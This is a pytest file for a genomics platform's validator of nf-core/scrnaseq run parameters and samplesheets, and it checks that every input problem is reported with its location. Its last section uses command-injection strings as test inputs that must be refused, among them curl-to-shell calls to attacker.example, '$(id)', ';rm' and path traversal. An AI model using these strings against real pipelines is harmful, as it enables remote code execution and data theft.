"""ValidateRunInputs: every kind of param and samplesheet problem, each with its location, all at once."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from arc_core.errors import FieldViolation, InvalidArgument
from services.pipelines.catalog import Catalog
from services.pipelines.models import PipelineVersionSchema
from services.pipelines.validation import (
    MAX_SAMPLESHEET_BYTES,
    check_params,
    check_samplesheet,
    normalize_samplesheet,
    validate_run_inputs,
)

SCRNASEQ = "nf-core/scrnaseq"
PARAMS: dict[str, Any] = {"genome": "GRCh38", "protocol": "10XV3", "aligner": "star"}
HEADER = "sample,fastq_1,fastq_2,expected_cells"
GOOD = (
    f"{HEADER}\n"
    "PBMC_1,s3://bucket/PBMC_1_L001_R1_001.fastq.gz,s3://bucket/PBMC_1_L001_R2_001.fastq.gz,5000\n"
    "PBMC_1,s3://bucket/PBMC_1_L002_R1_001.fastq.gz,s3://bucket/PBMC_1_L002_R2_001.fastq.gz,5000\n"
    "PBMC_2,gs://bucket/PBMC_2_R1.fq.gz,gs://bucket/PBMC_2_R2.fq.gz,\n"
)


def violations_of(schema: PipelineVersionSchema, params: dict[str, Any], csv_text: str) -> list[FieldViolation]:
    with pytest.raises(InvalidArgument) as exc:
        validate_run_inputs(schema, params, csv_text)
    return exc.value.violations


def fields(violations: list[FieldViolation]) -> list[str]:
    return [v.field for v in violations]


def sheet_problems(schema: PipelineVersionSchema, csv_text: str) -> dict[str, str]:
    report = check_samplesheet(schema.samplesheet, csv_text)
    return {v.field: v.description for v in report.violations}


# ---------------------------------------------------------------------------------------------- valid


def test_valid_inputs_answer_the_sample_count(scrnaseq) -> None:
    # Two lanes of PBMC_1 are one sample: nf-core/scrnaseq concatenates rows that share a sample name.
    assert validate_run_inputs(scrnaseq, PARAMS, GOOD).sample_count == 2


def test_fasta_and_gtf_instead_of_genome(scrnaseq) -> None:
    params = {"protocol": "auto", "fasta": "gs://refs/genome.fa.gz", "gtf": "gs://refs/genes.gtf"}
    assert validate_run_inputs(scrnaseq, params, GOOD).sample_count == 2


def test_bom_crlf_and_quoting_are_accepted(scrnaseq) -> None:
    csv_text = (
        '\ufeffsample,fastq_1,"fastq_2",expected_cells,seq_center\r\n'
        '"PBMC_1","s3://b/PBMC_1_R1.fastq.gz",s3://b/PBMC_1_R2.fastq.gz,"5000","Genomics Core, Bldg 2"\r\n'
        'PBMC_2,s3://b/PBMC_2_R1.fastq.gz,s3://b/PBMC_2_R2.fastq.gz,,"Core 2, Bldg 3"\r\n'
    )
    assert validate_run_inputs(scrnaseq, PARAMS, csv_text).sample_count == 2
    # A quoted cell may span lines in CSV, but its text reaches the pipeline's scripts: refused, on its row.
    multiline = csv_text.replace('"Core 2, Bldg 3"', '"multi\r\nline ""quoted"" centre"')
    problems = sheet_problems(scrnaseq, multiline)
    assert list(problems) == ["samplesheet[row 2].seq_center"]
    assert "text reaches the pipeline's scripts" in problems["samplesheet[row 2].seq_center"]
    assert validate_run_inputs(scrnaseq, PARAMS, GOOD.replace("\n", "\r")).sample_count == 2  # old Mac line ends


def test_unknown_columns_are_tolerated_and_reported(scrnaseq) -> None:
    csv_text = GOOD.replace(HEADER, HEADER + ",notes").replace(".gz,5000\n", ".gz,5000,x\n")
    report = check_samplesheet(scrnaseq.samplesheet, csv_text)
    assert report.violations == ()
    assert report.unknown_columns == ("notes",)
    assert report.samples == ("PBMC_1", "PBMC_2") and report.row_count == 3


def test_trailing_blank_rows_are_ignored(scrnaseq) -> None:
    assert validate_run_inputs(scrnaseq, PARAMS, GOOD + "\n\n,,,\n").sample_count == 2


def test_none_params_mean_unset(scrnaseq) -> None:
    assert validate_run_inputs(scrnaseq, {**PARAMS, "fasta": None, "email": None}, GOOD).sample_count == 2


def test_normalize_samplesheet() -> None:
    assert normalize_samplesheet("\ufeffa,b\r\n1,2\r3,4\n") == "a,b\n1,2\n3,4\n"


# --------------------------------------------------------------------------------------------- params


@pytest.mark.parametrize(
    ("params", "field", "fragment"),
    [
        ({**PARAMS, "aligner": "bowtie"}, "params.aligner", "must be one of: kallisto, star, alevin"),
        ({**PARAMS, "simpleaf_rlen": "91"}, "params.simpleaf_rlen", "must be of type integer"),
        ({**PARAMS, "save_reference": "yes"}, "params.save_reference", "must be of type boolean"),
        ({**PARAMS, "star_feature": "Exon"}, "params.star_feature", "GeneFull"),
        ({**PARAMS, "email": "not-an-email"}, "params.email", "may not be set on this platform"),
        ({**PARAMS, "fasta": "genome.txt", "gtf": "g.gtf"}, "params.fasta", "must match the pattern"),
        ({**PARAMS, "star_ignore_sjdbgtf": True}, "params.star_ignore_sjdbgtf", "must be of type string"),
        ({**PARAMS, "max_cpus": "8"}, "params.max_cpus", "must be of type integer"),
        ({**PARAMS, "alinger": "star"}, "params.alinger", "did you mean 'aligner'?"),
        ({**PARAMS, "expected_cells": 3000}, "params.expected_cells", "unknown parameter"),
        ({**PARAMS, "input": "s.csv"}, "params.input", "set by the platform (the run's samplesheet)"),
        ({**PARAMS, "outdir": "/tmp/x"}, "params.outdir", "set by the platform (the run's results folder)"),
    ],
)
def test_each_param_problem_is_located(scrnaseq, params: dict[str, Any], field: str, fragment: str) -> None:
    found = check_params(scrnaseq, params)
    assert [v.field for v in found] == [field], found
    assert fragment in found[0].description


def test_struct_numbers_are_accepted_as_integers(scrnaseq) -> None:
    # google.protobuf.Struct carries every number as a double.
    assert check_params(scrnaseq, {**PARAMS, "simpleaf_rlen": 91.0}) == []


def test_param_rules_follow_the_version(catalog: Catalog) -> None:
    v271, v260, v251 = (catalog.schema(SCRNASEQ, v) for v in ("2.7.1", "2.6.0", "2.5.1"))
    multi = {**PARAMS, "aligner": "cellrangermulti"}
    assert check_params(v271, multi) == []
    assert fields(check_params(v260, multi)) == ["params.aligner"]
    nac = {**PARAMS, "aligner": "kallisto", "kb_workflow": "nac"}
    assert check_params(v260, nac) == []
    assert fields(check_params(v251, nac)) == ["params.kb_workflow"]
    assert fields(check_params(v251, {**PARAMS, "skip_emptydrops": True})) == ["params.skip_emptydrops"]


def test_unknown_params_can_be_ignored_by_the_manifest(tmp_catalog: Path, pipeline_files) -> None:
    pipeline_files.write(
        tmp_catalog,
        "lenient",
        name="x/lenient",
        manifest_extra={"unknown_params": "ignore"},
        versions={"1.0.0": (pipeline_files.params_schema(), pipeline_files.input_schema())},
    )
    schema = Catalog.load(tmp_catalog).schema("x/lenient")
    assert check_params(schema, {"whatever": 1, "mode": "b"}) == []
    assert fields(check_params(schema, {"mode": "c"})) == ["params.mode"]


def test_demo_pipeline_params(catalog: Catalog) -> None:
    demo = catalog.schema("demo/hello")
    found = check_params(demo, {"times": 0, "style": "sing"})
    assert fields(found) == ["params.greeting", "params.style", "params.times"]
    assert "minimum" in found[2].description


# ---------------------------------------------------------------------------------------- samplesheet


@pytest.mark.parametrize(
    ("row", "field", "fragment"),
    [
        ("PBMC 1,a_R1.fastq.gz,a_R2.fastq.gz,1", "samplesheet[row 2].sample", "cannot contain spaces"),
        ("PBMC_3,a_R1.fastq,a_R2.fastq.gz,1", "samplesheet[row 2].fastq_1", "must have extension '.fq.gz'"),
        ("PBMC_3,a_R1.fq.gz,a R2.fq.gz,1", "samplesheet[row 2].fastq_2", "cannot contain spaces"),
        (
            "PBMC_3,a_R1.fq.gz,a_R2.fq.gz,lots",
            "samplesheet[row 2].expected_cells",
            "must be an Integer (got 'lots')",
        ),
        ("PBMC_3,a_R1.fq.gz,a_R2.fq.gz,1.5", "samplesheet[row 2].expected_cells", "must be an Integer"),
        (",a_R1.fq.gz,a_R2.fq.gz,1", "samplesheet[row 2].sample", "the cell is empty"),
        ("PBMC_3,,a_R2.fq.gz,1", "samplesheet[row 2].fastq_1", "the cell is empty"),
        ("PBMC_3,a_R1.fq.gz,,1", "samplesheet[row 2].fastq_2", "the cell is empty"),
        ("PBMC_3,a_R1.fq.gz", "samplesheet[row 2].fastq_2", "the cell is empty"),
        ("PBMC_3,a.fq.gz,a.fq.gz,1", "samplesheet[row 2].fastq_2", "is the same file as fastq_1"),
        ("PBMC_3,a_R1.fq.gz,a_R2.fq.gz,1,extra", "samplesheet[row 2]", "has 5 fields but the header has 4"),
    ],
)
def test_each_cell_problem_is_located(scrnaseq, row: str, field: str, fragment: str) -> None:
    csv_text = f"{HEADER}\nPBMC_1,x_R1.fastq.gz,x_R2.fastq.gz,10\n{row}\n"
    problems = sheet_problems(scrnaseq, csv_text)
    assert list(problems) == [field], problems
    assert fragment in problems[field]


def test_enum_columns(scrnaseq) -> None:
    csv_text = "sample,fastq_1,fastq_2,sample_type,feature_type\nS1,a_1.fq.gz,a_2.fq.gz,rna,tcr\n"
    problems = sheet_problems(scrnaseq, csv_text)
    assert problems["samplesheet[row 1].sample_type"] == "must be one of: atac, gex (got 'rna')"
    assert problems["samplesheet[row 1].feature_type"].startswith("must be one of: gex, vdj, ab, crispr, cmo")


def test_feature_type_is_a_column_only_from_2_7(catalog: Catalog) -> None:
    csv_text = "sample,fastq_1,fastq_2,feature_type\nS1,a_1.fq.gz,a_2.fq.gz,bogus\n"
    assert fields(check_samplesheet(catalog.schema(SCRNASEQ, "2.7.1").samplesheet, csv_text).violations) == [
        "samplesheet[row 1].feature_type"
    ]
    report = check_samplesheet(catalog.schema(SCRNASEQ, "2.5.1").samplesheet, csv_text)
    assert report.violations == () and report.unknown_columns == ("feature_type",)


def test_interior_empty_rows_are_violations_with_their_row_number(scrnaseq) -> None:
    lines = GOOD.splitlines()
    csv_text = "\n".join([lines[0], lines[1], "", ",,,", lines[2], lines[3]]) + "\n"
    assert sheet_problems(scrnaseq, csv_text) == {
        "samplesheet[row 2]": "empty row",
        "samplesheet[row 3]": "empty row",
    }


@pytest.mark.parametrize(
    ("csv_text", "field", "fragment"),
    [
        ("", "samplesheet", "is empty"),
        ("\ufeff\r\n", "samplesheet", "is empty"),
        (f"{HEADER}\n", "samplesheet", "has a header but no sample rows"),
        ("sample,fastq_1\nS1,a.fq.gz\n", "samplesheet[header].fastq_2", "required column is missing"),
        (
            "sample\tfastq_1\tfastq_2\nS1\ta.fq.gz\tb.fq.gz\n",
            "samplesheet[header]",
            "must be comma-separated",
        ),
    ],
)
def test_file_and_header_problems(scrnaseq, csv_text: str, field: str, fragment: str) -> None:
    problems = sheet_problems(scrnaseq, csv_text)
    assert field in problems, problems
    assert fragment in problems[field]


def test_near_miss_header_names_get_a_hint(scrnaseq) -> None:
    problems = sheet_problems(scrnaseq, "Sample,fastq_1 ,fastq_2\nS1,a_1.fq.gz,a_2.fq.gz\n")
    assert problems["samplesheet[header].sample"] == (
        "required column is missing (found 'Sample': names are exact, without spaces)"
    )
    assert "found 'fastq_1 '" in problems["samplesheet[header].fastq_1"]


def test_oneof_alternatives_given_twice(tmp_catalog: Path, pipeline_files) -> None:
    params = pipeline_files.params_schema({"genome": {"type": "string"}, "fasta": {"type": "string"}})
    params["definitions"]["main_options"]["oneOf"] = [{"required": ["genome"]}, {"required": ["fasta"]}]
    pipeline_files.write(tmp_catalog, "one", name="x/one", versions={"1.0.0": (params, pipeline_files.input_schema())})
    schema = Catalog.load(tmp_catalog).schema("x/one")
    assert [(v.field, v.description) for v in check_params(schema, {})] == [
        ("params.genome", "is required: give exactly one of: genome, or fasta")
    ]
    assert [(v.field, v.description) for v in check_params(schema, {"genome": "g", "fasta": "f"})] == [
        ("params", "give exactly one of: genome, or fasta")
    ]


def test_missing_columns_are_reported_once_not_per_row(scrnaseq) -> None:
    csv_text = "sample,fastq_1\n" + "".join(f"S{i},s{i}.fq.gz\n" for i in range(50))
    assert fields(check_samplesheet(scrnaseq.samplesheet, csv_text).violations) == ["samplesheet[header].fastq_2"]


def test_duplicate_and_nameless_header_columns(scrnaseq) -> None:
    csv_text = "sample,fastq_1,fastq_2,sample,\nS1,a_1.fq.gz,a_2.fq.gz,S1,\n"
    problems = sheet_problems(scrnaseq, csv_text)
    assert problems["samplesheet[header].sample"] == "column appears twice"
    assert problems["samplesheet[header]"] == "column 5 has no name"


def test_broken_quoting_is_reported(scrnaseq) -> None:
    csv_text = f'{HEADER}\nS1,a_1.fq.gz,a_2.fq.gz,1\nS2,"b_1.fq.gz,b_2.fq.gz,1\n'
    problems = sheet_problems(scrnaseq, csv_text)
    assert "cannot be parsed as CSV" in problems["samplesheet[row 2]"]
    csv_text = f'{HEADER}\nS1,a_1.fq.gz,"a_2.fq.gz"x,1\n'
    assert "cannot be parsed as CSV" in sheet_problems(scrnaseq, csv_text)["samplesheet[row 1]"]


def test_samplesheet_size_limit(scrnaseq) -> None:
    big = HEADER + "\n" + "x" * MAX_SAMPLESHEET_BYTES
    assert "limit is 10485760" in sheet_problems(scrnaseq, big)["samplesheet"]


# ------------------------------------------------------------------------ samples: uniqueness, read pairs


def test_scrnaseq_allows_several_rows_per_sample(scrnaseq) -> None:
    report = check_samplesheet(scrnaseq.samplesheet, GOOD)
    assert report.violations == () and report.sample_count == 2 and report.row_count == 3


def test_duplicate_samples_where_the_pipeline_requires_unique_ones(catalog: Catalog) -> None:
    demo = catalog.schema("demo/hello")
    csv_text = "sample,fastq_1,fastq_2\nA,a_1.fq.gz,a_2.fq.gz\nB,b_1.fq.gz,\nA,c_1.fq.gz,c_2.fq.gz\n"
    problems = sheet_problems(demo, csv_text)
    assert list(problems) == ["samplesheet[row 3].sample"]
    assert "duplicate sample 'A' (also in row 1)" in problems["samplesheet[row 3].sample"]


def test_unique_sample_rule_from_the_manifest_alone(tmp_catalog: Path, pipeline_files) -> None:
    pipeline_files.write(
        tmp_catalog,
        "one-row",
        name="x/one-row",
        manifest_extra={"samplesheet": {"sample_column": "sample", "unique_samples": True}},
        versions={"1.0.0": (pipeline_files.params_schema(), pipeline_files.input_schema())},
    )
    schema = Catalog.load(tmp_catalog).schema("x/one-row")
    assert schema.samplesheet.column("sample").unique
    problems = sheet_problems(schema, "sample,fastq_1\nA,a.fq.gz\nA,b.fq.gz\n")
    assert "duplicate sample 'A'" in problems["samplesheet[row 2].sample"]


def test_schema_unique_with_other_columns(tmp_catalog: Path, pipeline_files) -> None:
    inp = pipeline_files.input_schema()
    inp["items"]["properties"]["fastq_1"]["unique"] = ["sample"]
    pipeline_files.write(
        tmp_catalog, "pairs", name="x/pairs", versions={"1.0.0": (pipeline_files.params_schema(), inp)}
    )
    schema = Catalog.load(tmp_catalog).schema("x/pairs")
    csv_text = "sample,fastq_1\nA,a.fq.gz\nB,a.fq.gz\nA,a.fq.gz\n"
    problems = sheet_problems(schema, csv_text)
    assert list(problems) == ["samplesheet[row 3].fastq_1"]
    assert "(fastq_1, sample) must be unique" in problems["samplesheet[row 3].fastq_1"]


def test_runs_of_a_sample_must_all_be_paired_or_all_single(tmp_catalog: Path, pipeline_files) -> None:
    pipeline_files.write(
        tmp_catalog,
        "mixed",
        name="x/mixed",
        manifest_extra={"samplesheet": {"sample_column": "sample", "paired_reads": ["fastq_1", "fastq_2"]}},
        versions={"1.0.0": (pipeline_files.params_schema(), pipeline_files.input_schema())},
    )
    schema = Catalog.load(tmp_catalog).schema("x/mixed")
    csv_text = (
        "sample,fastq_1,fastq_2\n"
        "A,a1_R1.fq.gz,a1_R2.fq.gz\n"
        "B,b1.fq.gz,\n"
        "A,a2_R1.fq.gz,\n"
        "B,b2.fq.gz,\n"
        "C,c.fq.gz,c.fq.gz\n"
    )
    problems = sheet_problems(schema, csv_text)
    assert list(problems) == ["samplesheet[row 3].fastq_2", "samplesheet[row 5].fastq_2"]
    assert (
        "sample 'A' mixes paired-end and single-end runs (row 1 is paired-end, this row is single-end)"
        in (problems["samplesheet[row 3].fastq_2"])
    )
    assert problems["samplesheet[row 5].fastq_2"] == "is the same file as fastq_1"
    assert check_samplesheet(schema.samplesheet, "sample,fastq_1,fastq_2\nA,a.fq.gz,\nA,b.fq.gz,\n").sample_count == 1


def test_generic_column_rules_minimum(tmp_catalog: Path, pipeline_files) -> None:
    pipeline_files.write(
        tmp_catalog,
        "mins",
        name="x/mins",
        versions={"1.0.0": (pipeline_files.params_schema(), pipeline_files.input_schema())},
    )
    schema = Catalog.load(tmp_catalog).schema("x/mins")
    problems = sheet_problems(schema, "sample,fastq_1,cells\nA,a.fq.gz,0\nB,b.fq.gz,-3x\n")
    assert problems == {
        "samplesheet[row 1].cells": "must be at least 1 (got '0')",
        "samplesheet[row 2].cells": "must be an integer (got '-3x')",
    }


# ------------------------------------------------------------------------------------- all at once


def test_every_problem_is_reported_at_once(scrnaseq) -> None:
    csv_text = (
        "\ufeffsample,fastq_1,fastq_2,expected_cells,sample_type\r\n"
        "PBMC 1,a.fastq,a.fastq,lots,rna\r\n"
        "\r\n"
        "PBMC_2,b_R1.fq.gz,,12,gex\r\n"
    )
    params = {"aligner": "bowtie", "alinger": "star", "input": "x.csv", "simpleaf_rlen": "91"}
    with pytest.raises(InvalidArgument) as exc:
        validate_run_inputs(scrnaseq, params, csv_text)
    err = exc.value
    assert err.message == "invalid run inputs for nf-core/scrnaseq 2.7.1: 12 problems"
    assert err.metadata == {"violation_count": "12"}
    assert fields(err.violations) == [
        "params.alinger",
        "params.input",
        "params.aligner",
        "params.simpleaf_rlen",
        "samplesheet[row 1].sample",
        "samplesheet[row 1].fastq_1",
        "samplesheet[row 1].fastq_2",
        "samplesheet[row 1].expected_cells",
        "samplesheet[row 1].sample_type",
        "samplesheet[row 1].fastq_2",
        "samplesheet[row 2]",
        "samplesheet[row 3].fastq_2",
    ]


def test_violations_are_capped_with_a_count_of_the_rest(scrnaseq) -> None:
    csv_text = HEADER + "\n" + "".join(f"S {i},a.fq.gz,b.fq.gz,1\n" for i in range(500))
    with pytest.raises(InvalidArgument) as exc:
        validate_run_inputs(scrnaseq, PARAMS, csv_text, max_violations=20)
    v = exc.value.violations
    assert len(v) == 20
    assert v[-1] == FieldViolation("samplesheet", "... and 481 more problems not shown")
    assert exc.value.metadata["violation_count"] == "500"


def test_problems_far_down_a_large_sheet_keep_their_row_numbers(scrnaseq) -> None:
    rows = [f"S{i // 3},s{i}_R1.fastq.gz,s{i}_R2.fastq.gz,100" for i in range(10_000)]
    rows[6000] = "S 2000,s6000_R1.fastq.gz,s6000_R2.fastq.gz,100"
    rows[9999] = "S3333,s9999_R1.fastq.gz,s9999_R1.fastq.gz,100"
    csv_text = HEADER + "\n" + "\n".join(rows) + "\n"
    problems = sheet_problems(scrnaseq, csv_text)
    assert list(problems) == ["samplesheet[row 6001].sample", "samplesheet[row 10000].fastq_2"]
    rows[6000], rows[9999] = "S2000,x_R1.fastq.gz,x_R2.fastq.gz,100", "S3333,y_R1.fq.gz,y_R2.fq.gz,100"
    assert validate_run_inputs(scrnaseq, PARAMS, HEADER + "\n" + "\n".join(rows)).sample_count == 3334


def test_unique_samples_across_chunks(catalog: Catalog) -> None:
    demo = catalog.schema("demo/hello")
    rows = [f"S{i},s{i}_1.fq.gz,s{i}_2.fq.gz" for i in range(5000)]
    rows.append("S10,dup_1.fq.gz,dup_2.fq.gz")
    problems = sheet_problems(demo, "sample,fastq_1,fastq_2\n" + "\n".join(rows) + "\n")
    assert list(problems) == ["samplesheet[row 5001].sample"]
    assert "also in row 11" in problems["samplesheet[row 5001].sample"]


# ------------------------------------------------------------------------------------------ input paths


def test_valid_inputs_name_every_path_with_its_location(scrnaseq) -> None:
    params = {**PARAMS, "fasta": "gs://refs/genome.fa.gz", "star_index": "gs://refs/star/", "skip_fastqc": True}
    report = validate_run_inputs(scrnaseq, params, GOOD)
    got = [(p.field, p.uri, p.kind, p.must_exist) for p in report.input_paths]
    assert got == [
        ("params.fasta", "gs://refs/genome.fa.gz", "file", True),
        ("params.star_index", "gs://refs/star/", "path", True),  # 2.7.1: `format: path`
        ("samplesheet[row 1].fastq_1", "s3://bucket/PBMC_1_L001_R1_001.fastq.gz", "file", True),
        ("samplesheet[row 1].fastq_2", "s3://bucket/PBMC_1_L001_R2_001.fastq.gz", "file", True),
        ("samplesheet[row 2].fastq_1", "s3://bucket/PBMC_1_L002_R1_001.fastq.gz", "file", True),
        ("samplesheet[row 2].fastq_2", "s3://bucket/PBMC_1_L002_R2_001.fastq.gz", "file", True),
        ("samplesheet[row 3].fastq_1", "gs://bucket/PBMC_2_R1.fq.gz", "file", True),
        ("samplesheet[row 3].fastq_2", "gs://bucket/PBMC_2_R2.fq.gz", "file", True),
    ]


def test_platform_params_and_empty_cells_name_no_path(catalog: Catalog) -> None:
    # 2.5.1's schema_input.json gives fastq columns no `format`: the manifest's read-pair columns are files.
    old = catalog.schema(SCRNASEQ, "2.5.1")
    report = validate_run_inputs(old, PARAMS, "sample,fastq_1,fastq_2\nA,a_R1.fq.gz,\nB,b_R1.fq.gz,b_R2.fq.gz\n")
    assert [p.field for p in report.input_paths] == [
        "samplesheet[row 1].fastq_1",
        "samplesheet[row 2].fastq_1",
        "samplesheet[row 2].fastq_2",
    ]
    # The demo's samplesheet_only mode (Benchling) still names the files, never params.
    demo = catalog.schema("demo/hello")
    only = validate_run_inputs(demo, {}, "sample,fastq_1,fastq_2\nA,/d/a_1.fq.gz,/d/a_2.fq.gz\n", samplesheet_only=True)
    assert [p.uri for p in only.input_paths] == ["/d/a_1.fq.gz", "/d/a_2.fq.gz"]


def test_paths_of_a_large_sheet_keep_their_row_numbers_on_the_fast_path(scrnaseq) -> None:
    rows = [f"S{i},s{i}_R1.fastq.gz,s{i}_R2.fastq.gz,100" for i in range(5000)]
    rows.insert(3000, "")  # a blank row in the middle is a violation, so: only at the end
    csv_text = HEADER + "\n" + "\n".join(rows[:3000] + rows[3001:]) + "\n\n"
    paths = validate_run_inputs(scrnaseq, PARAMS, csv_text).input_paths
    assert len(paths) == 10_000
    assert (paths[-1].field, paths[-1].uri) == ("samplesheet[row 5000].fastq_2", "s4999_R2.fastq.gz")
    assert (paths[6001].field, paths[6001].uri) == ("samplesheet[row 3001].fastq_2", "s3000_R2.fastq.gz")


# ------------------------------------------------------------------------- values that reach scripts
# nf-core modules paste these into bash and Python unescaped (services/pipelines/script_values.py cites
# where): FASTQC `printf "%s %s\n" $rename_to` (meta.id), cellranger_count.py `sample_id = "${meta.id}"`,
# MultiQC `--title \"$params.multiqc_title\"`, and publishDir's saveAs "${meta.id}/${filename}".


@pytest.mark.parametrize(
    "sample",
    ["s1;curl${IFS}attacker.example|sh;#", "../../../run-0badc0de/results/x", "..", 'x",__import__("os")', "a+b"],
)
def test_sample_names_that_would_reach_a_script_are_refused(scrnaseq, sample: str) -> None:
    csv_text = f"{HEADER}\n{sample},gs://b/x_R1.fastq.gz,gs://b/x_R2.fastq.gz,100\n"
    problems = sheet_problems(scrnaseq, csv_text)
    assert "names reach the pipeline's scripts" in problems["samplesheet[row 1].sample"]


@pytest.mark.parametrize("path", ["gs://b/a;rm${IFS}x.fastq.gz", "gs://b/*.fastq.gz", "gs://b/$(id).fastq.gz"])
def test_file_cells_with_shell_characters_are_refused(scrnaseq, path: str) -> None:
    csv_text = f"{HEADER}\nS1,{path},gs://b/x_R2.fastq.gz,100\n"
    problems = sheet_problems(scrnaseq, csv_text)
    assert "paths reach the pipeline's scripts" in problems["samplesheet[row 1].fastq_1"]


def test_free_text_params_take_plain_text_only(scrnaseq) -> None:
    assert check_params(scrnaseq, {**PARAMS, "multiqc_title": "PBMC run 7, lanes 1-2"}) == []
    for title in ("x$(curl -s attacker.example|sh)", 'a" --config /etc/x "', "line\nbreak"):
        (problem,) = check_params(scrnaseq, {**PARAMS, "multiqc_title": title})
        assert problem.field == "params.multiqc_title" and "text reaches the pipeline's scripts" in problem.description
    # A URL in a param the schema does not call a path would be read unchecked by the pipeline.
    (problem,) = check_params(scrnaseq, {**PARAMS, "genome": "https://attacker.example/genome"})
    assert "looks like a URL or a path" in problem.description


def test_params_that_run_templates_or_fetch_remote_data_are_forbidden(scrnaseq) -> None:
    for name in ("multiqc_methods_description", "pipelines_testdata_base_path"):
        (problem,) = check_params(scrnaseq, {**PARAMS, name: "gs://lab-data/m.yml"})
        assert problem.field == f"params.{name}" and "may not be set on this platform" in problem.description


def test_file_params_without_a_format_are_paths_too(scrnaseq, catalog: Catalog) -> None:
    # scrnaseq reads multiqc_logo, motifs and cellrangerarc_config as files (no `format` in any schema),
    # and 2.5.1's schema gives the references none: the manifest's path_params make them input paths.
    params = {**PARAMS, "multiqc_logo": "gs://lab-data/logo.png", "motifs": "gs://lab-data/motifs.txt"}
    report = validate_run_inputs(scrnaseq, params, GOOD)
    named = {p.field: (p.uri, p.kind, p.must_exist) for p in report.input_paths if p.field.startswith("params.")}
    assert named == {
        "params.multiqc_logo": ("gs://lab-data/logo.png", "file", True),
        "params.motifs": ("gs://lab-data/motifs.txt", "file", True),
    }
    old = catalog.schema(SCRNASEQ, "2.5.1")
    report = validate_run_inputs(old, {**PARAMS, "gtf": "gs://refs/genes.gtf"}, GOOD)
    assert ("params.gtf", "gs://refs/genes.gtf") in [(p.field, p.uri) for p in report.input_paths]
    (problem,) = check_params(scrnaseq, {**PARAMS, "multiqc_logo": "gs://lab-data/my logo.png"})
    assert "paths reach the pipeline's scripts" in problem.description
